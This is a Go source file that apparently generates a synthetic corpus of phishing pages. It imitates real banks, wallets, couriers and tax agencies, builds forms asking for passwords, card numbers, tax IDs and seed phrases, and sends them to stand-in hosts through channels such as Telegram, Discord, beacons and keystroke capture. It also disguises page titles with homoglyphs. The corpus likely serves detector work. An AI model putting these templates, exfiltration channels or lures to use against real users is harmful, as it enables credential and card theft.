package corpus

import (
	"bytes"
	"embed"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"text/template"
)

//go:embed pages
var files embed.FS

// layouts are the templates of pages/, with <% and %> since the pages are full of braces.
var layouts = template.Must(template.New("").Delims("<%", "%>").ParseFS(files, "pages/*.html"))

// texts has the texts of phishing by language and name; alternatives are separated by |.
var texts = decoded[map[string]map[string]string]("pages/texts.json")

// languages are the languages of the pages; the first ones are the most frequent.
var languages = []string{"en", "en", "en", "en", "de", "de", "fr", "es", "es", "pt", "ja", "zh"}

// brands has the imitated brands by kind.
var brands = map[string][]string{
	"login": {
		"Microsoft 365", "PayPal", "Outlook", "Netflix", "Facebook", "Instagram", "Sparkasse", "Commerzbank", "Steam", "Roblox", "Webmail",
		"Amazon", "Apple ID", "Chase", "BBVA", "Santander", "Itaú", "Crédit Agricole", "DocuSign", "楽天", "支付宝", "OneDrive", "Discord", "cPanel",
	},
	"card":   {"Netflix", "Amazon Prime", "Spotify", "Disney+", "Ameli", "American Express", "三井住友カード", "ETC", "Apple", "PlayStation"},
	"seed":   {"MetaMask", "Trust Wallet", "Ledger Live", "Phantom", "Coinbase Wallet", "Exodus", "Trezor Suite"},
	"parcel": {"DHL", "USPS", "FedEx", "La Poste", "Correos", "Correios", "佐川急便", "Evri", "Royal Mail", "Hermes", "顺丰速运"},
	"tax":    {"HMRC", "IRS", "ELSTER", "impots.gouv.fr", "Agencia Tributaria", "Receita Federal", "国税庁", "国家税务总局", "GOV.UK"},
	"wallet": {"Uniswap", "OpenSea", "Arbitrum", "WalletConnect", "Binance", "PancakeSwap", "zkSync", "Pepe", "LayerZero"},
}

// home has the language of the brands of one country.
var home = map[string]string{
	"Sparkasse": "de", "Commerzbank": "de", "ELSTER": "de", "Hermes": "de", "Chase": "en", "HMRC": "en", "IRS": "en", "GOV.UK": "en", "Evri": "en",
	"Royal Mail": "en", "USPS": "en", "BBVA": "es", "Agencia Tributaria": "es", "Correos": "es", "Itaú": "pt", "Receita Federal": "pt",
	"Correios": "pt", "Crédit Agricole": "fr", "impots.gouv.fr": "fr", "Ameli": "fr", "La Poste": "fr", "楽天": "ja", "国税庁": "ja",
	"三井住友カード": "ja", "佐川急便": "ja", "支付宝": "zh", "国家税务总局": "zh", "ETC": "zh", "顺丰速运": "zh",
}

// A field is a field of a form.
type field struct {
	Label, Name, Type, Attr string
	S                       *scene
}

// A scene is everything that a page of phishing says and does.
type scene struct {
	rng *rand.Rand

	Lang, Kind, Brand, Title, Head, Lead, Button, Accent, ID           string
	Send, Long, Host, Real, Sink, Token, Number, Wallet                string
	Inner, Packed, PackedSink, Escaped, Codes, Part, HostParts, Markup string
	Form, Layout                                                       int
	Foot                                                               []string
	Fields                                                             []field
	classes                                                            map[string]string
}

// hosts are the ends of the places to which pages send; a label drawn by rng comes first.
var hosts = []string{"secure-gate.example", "cdn-verify.test", "logs.invalid", "my-panel.example", "account-check.example", "mx-relay.test"}

// newScene returns a scene of a kind. A still one works without its own script.
func newScene(rng *rand.Rand, kind string, still bool) *scene {
	s := &scene{rng: rng, Kind: kind, Lang: pick(rng, languages), Brand: pick(rng, brands[kind]), classes: map[string]string{}}
	if at := home[s.Brand]; at != "" {
		s.Lang = at
	}
	s.Form, s.Layout = rng.IntN(4), 1+rng.IntN(6)
	s.Head, s.Button = s.any(kind+".head"), s.any("button")
	s.Lead = strings.ReplaceAll(s.any(kind+".lead"), "{b}", s.Brand)
	s.Foot = strings.Split(texts[s.Lang]["foot"], "|")
	s.Accent = pick(rng, []string{"#0067b8", "#003087", "#e50914", "#ff9900", "#1877f2", "#f00000", "#00793a", "#ffcc00", "#5a31f4", "#222", "#d40511"})
	s.ID = pick(rng, []string{"f", "form1", "loginForm", "kc-form", "x", "frm", "theForm"})
	s.Host = fmt.Sprintf("%s%d.%s", pick(rng, []string{"api", "x", "go", "srv", "a"}), rng.IntN(90), pick(rng, hosts))
	s.HostParts = `["` + strings.ReplaceAll(s.Host, ".", `","`) + `"]`
	s.Sink = pick(rng, []string{"https://", "https://", "http://"}) + s.Host + pick(rng, []string{"/post.php", "/next.php", "/api/log", "/r", "/send/7", "/w/k"})
	s.Real = pick(rng, []string{"www", "login", "auth", "account"}) + ".brand.example"
	s.Number, s.Token, s.Wallet = fmt.Sprint(100000000+rng.IntN(900000000)), s.letters(20), s.hex(40)
	s.Send = pick(rng, []string{"post", "mailhook", "get", "mailto"})
	if !still {
		s.Send = pick(rng, []string{
			"post", "post", "mailhook", "telegram", "telegram", "discord", "fetch", "fetch", "image", "beacon", "socket", "late", "loose", "keys",
		})
	}
	s.ask()
	s.Title = pick(rng, []string{s.Brand + " - " + s.Head, s.Head, s.Brand, s.Head + " | " + s.Brand, "Document", ""})
	return s
}

// ask sets the fields of the scene.
func (s *scene) ask() {
	user := pick(s.rng, []string{"email", "user", "login", "username", "loginfmt", "a1"})
	secret := pick(s.rng, []string{"password", "pass", "passwd", "pwd", "psw", "a2"})
	card := func() {
		s.add("number", pick(s.rng, []string{"cardnumber", "cc", "cn", "num", "k1"}), pick(s.rng, []string{"tel", "text"}), ` inputmode="numeric" maxlength="19"`)
		s.add("expiry", pick(s.rng, []string{"exp", "expiry", "mmyy", "k2"}), "text", ` maxlength="5"`)
		s.add("cvc", pick(s.rng, []string{"cvc", "cvv", "csc", "k3"}), pick(s.rng, []string{"tel", "text", "password"}), ` maxlength="4"`)
	}
	switch s.Kind {
	case "login":
		s.add("user", user, pick(s.rng, []string{"text", "email", "text"}), "")
		s.add(pick(s.rng, []string{"pass", "pass", "pass", "pin"}), secret, "password", pick(s.rng, []string{"", ` autocomplete="off"`, ` autocomplete="current-password"`}))
	case "card":
		s.add("name", pick(s.rng, []string{"name", "holder", "ccname"}), "text", "")
		card()
	case "parcel":
		s.add("address", "addr", "text", "")
		s.add("zip", "zip", "text", "")
		s.add("phone", "tel", "tel", "")
		card()
	case "tax":
		s.add("ssn", pick(s.rng, []string{"ssn", "nino", "taxid", "doc"}), "text", "")
		s.add("birth", "dob", "text", "")
		if s.rng.IntN(2) == 0 {
			s.add("iban", "iban", "text", "")
			s.add("pass", secret, "password", "")
			return
		}
		card()
	default:
		s.words()
	}
}

// words asks for a seed phrase: in a large field, or each word in a field of its own.
func (s *scene) words() {
	if s.rng.IntN(2) == 0 {
		s.Long = pick(s.rng, []string{"phrase", "mnemonic", "words", "seed", "text", "message"})
		return
	}
	for i := range 12 {
		s.Fields = append(s.Fields, field{fmt.Sprintf("%s %d", texts[s.Lang]["word"], i+1), fmt.Sprintf("w%d", i+1), "text", ` autocomplete="off"`, s})
	}
}

func (s *scene) add(label, name, kind, attr string) {
	s.Fields = append(s.Fields, field{texts[s.Lang][label], name, kind, attr, s})
}

// T returns a text in the language of the scene.
func (s *scene) T(name string) string { return texts[s.Lang][name] }

// any returns an alternative of a text.
func (s *scene) any(name string) string { return pick(s.rng, strings.Split(texts[s.Lang][name], "|")) }

// C returns the class name of a role, the same one within a page.
func (s *scene) C(role string) string {
	if s.classes[role] == "" {
		s.classes[role] = pick(s.rng, []string{role, "_" + s.letters(6), "css-" + s.hex(6), role + "-" + s.letters(2), "ui_" + role})
	}
	return s.classes[role]
}

// FormAttr returns the attributes of the form.
func (s *scene) FormAttr() string {
	switch s.Send {
	case "post":
		return fmt.Sprintf(`action="%s" method="post"`, s.Sink)
	case "get":
		return fmt.Sprintf(`method="GET" action="%s"`, s.Sink)
	case "mailhook":
		return fmt.Sprintf(`action="https://%s/f/%s" method="POST"`, pick(s.rng, []string{"formspree.example", "submit-form.example", "getform.example"}), s.letters(8))
	case "mailto":
		return `action="mailto:box77@drop.example" method="post" enctype="text/plain"`
	}
	return ""
}

// Script returns the script that sends the values of the form.
func (s *scene) Script() string {
	if layouts.Lookup(s.Send) == nil {
		return ""
	}
	return s.render(s.Send)
}

// render returns a template of pages/ with the scene as its data. The templates are part of this package: an error is a mistake there.
func (s *scene) render(name string) string {
	var out bytes.Buffer
	if err := layouts.ExecuteTemplate(&out, name, s); err != nil {
		panic(err)
	}
	return out.String()
}

// page returns the whole page without any disguise.
func (s *scene) page() string { return s.render(fmt.Sprintf("layout%d.html", s.Layout)) }

func (s *scene) letters(n int) string {
	return s.draw("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOP0123456789", n)
}

func (s *scene) hex(n int) string { return s.draw("0123456789abcdef", n) }

func (s *scene) draw(alphabet string, n int) string {
	out := make([]byte, n)
	for i := range out {
		out[i] = alphabet[s.rng.IntN(len(alphabet))]
	}
	return string(out)
}

// decoded returns the value of a file of JSON in pages/.
func decoded[T any](name string) (value T) {
	data, err := files.ReadFile(name)
	if err == nil {
		err = json.Unmarshal(data, &value)
	}
	if err != nil {
		panic(err)
	}
	return value
}

// lure returns another title for the same page: with letters that look alike, with a word added, or one that says nothing.
func lure(rng *rand.Rand, title string) string {
	switch rng.IntN(4) {
	case 0:
		return strings.NewReplacer("a", "а", "e", "е", "o", "о", "i", "і").Replace(title)
	case 1:
		return strings.NewReplacer("l", "I", "o", "0", "m", "rn").Replace(title)
	case 2:
		return title + pick(rng, []string{" 2026", " Support", " Secure", " ✅", " Login"})
	default:
		return pick(rng, []string{"index", "test", "My site", "new project", "web", "doc-4471", "hello", "untitled"})
	}
}
